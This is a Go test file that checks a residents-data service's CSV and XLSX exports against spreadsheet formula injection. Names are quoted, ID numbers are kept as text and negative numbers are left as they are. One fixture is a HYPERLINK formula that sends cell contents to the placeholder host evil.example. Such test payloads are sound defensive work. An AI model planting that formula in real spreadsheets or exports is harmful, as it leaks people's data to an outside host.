package api

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"fullemp/campaign"
	"fullemp/idcard"
)

// formulaNames are residents' names a spreadsheet would run as formulas.
var formulaNames = []string{`=HYPERLINK("http://evil.example/?d="&A2,"详情")`, "+1", "@x", "-2+3"}

// TestExportFormulaCells: names that a spreadsheet would run as formulas come out of the
// residents CSV behind a single quote (a household ID with a sign too), while the ID
// numbers stay ="…" and the league's change column, a number, keeps its negative values
// as they are (-100.0, not '-100.0). The XLSX holds the names exactly, as string cells.
func TestExportFormulaCells(t *testing.T) {
	f := newFixture(t)
	var b strings.Builder
	b.WriteString(ledgerHeader)
	var ids []string
	for i, name := range formulaNames {
		base := "3301021990010100" + string(rune('1'+i))
		id := base + string(idcard.CheckDigit(base))
		ids = append(ids, id)
		b.WriteString("2009-12," + id + "," + csvQuote(name) + "," + commA + ",-H9,employed,Y,Y,N,N,N,N,,N\n")
	}
	// District B's only community sends its quarter-end ledgers and meets the standard in
	// November; an unemployed resident joins it in December: 下城's share falls from 100 %
	// to 0.
	for _, m := range []string{"2009-03", "2009-06", "2009-09"} {
		b.WriteString(m + "," + personE + ",周九," + commB + ",H6,employed,Y,Y,N,N,N,N,,N\n")
	}
	b.WriteString("2009-12," + personC + ",孙八," + commB + ",H5,unemployed,Y,Y,N,N,N,N,2009-12-01,N\n")
	if code, res, body := f.upload(t, "city", "formulas.csv", []byte(b.String())); code != 200 || res.Loaded != int64(len(formulaNames)+4) {
		t.Fatalf("upload = %d: %s", code, body)
	}
	// District B's community passes its 2009 spot check, so it meets the standard in
	// November (its one resident employed) and not in December.
	sum, err := f.srv.ing.Upload(context.Background(), "spot.csv", []byte("year,community_code,result,note\n2009,"+commB+",pass,\n"), campaign.SpotChecks)
	if err != nil || sum.Loaded != 1 {
		t.Fatalf("spot checks: %v %+v", err, sum)
	}

	code, body := f.do(t, "street", "GET", "/export/residents.csv?region="+commA+"&month="+testMonth, nil, "")
	if code != 200 {
		t.Fatalf("residents.csv = %d: %s", code, body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatal(err, recs)
	}
	byID := map[string][]string{}
	for _, r := range recs[1:] {
		byID[r[0]] = r
	}
	for i, name := range formulaNames {
		r := byID[`="`+ids[i]+`"`]
		if r == nil {
			t.Errorf("residents.csv: no row with the ID number %s as =\"…\": %q", ids[i], recs)
			continue
		}
		if r[1] != "'"+name {
			t.Errorf("residents.csv: name %q written as %q, want it behind a single quote", name, r[1])
		}
		if r[2] != "'-H9" {
			t.Errorf("residents.csv: household -H9 written as %q, want '-H9", r[2])
		}
	}
	code, body = f.do(t, "street", "GET", "/export/residents.xlsx?region="+commA+"&month="+testMonth, nil, "")
	x, err := excelize.OpenReader(strings.NewReader(body))
	if code != 200 || err != nil {
		t.Fatalf("residents.xlsx = %d: %v", code, err)
	}
	rows, _ := x.GetRows(x.GetSheetList()[0])
	names := map[string]bool{}
	for _, r := range rows {
		if len(r) > 1 {
			names[r[1]] = true
		}
	}
	for _, name := range formulaNames {
		if !names[name] {
			t.Errorf("residents.xlsx: no name %q as it is: %q", name, rows)
		}
	}

	// A number column: the league's change on last month, negative for 下城.
	code, body = f.do(t, "city", "GET", "/export/league.csv?region=3301&month="+testMonth, nil, "")
	if code != 200 {
		t.Fatalf("league.csv = %d: %s", code, body)
	}
	recs, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	change := len(recs[0]) - 1
	negative := false
	for _, r := range recs[1:] {
		if c := r[change]; strings.HasPrefix(c, "-") && c != "-" {
			negative = true
			if c != "-100.0" {
				t.Errorf("league.csv: change %q, want -100.0", c)
			}
		} else if strings.HasPrefix(c, "'") {
			t.Errorf("league.csv: the number %q was neutralised like text", c)
		}
	}
	if !negative {
		t.Errorf("league.csv: no negative change to check: %q", recs)
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
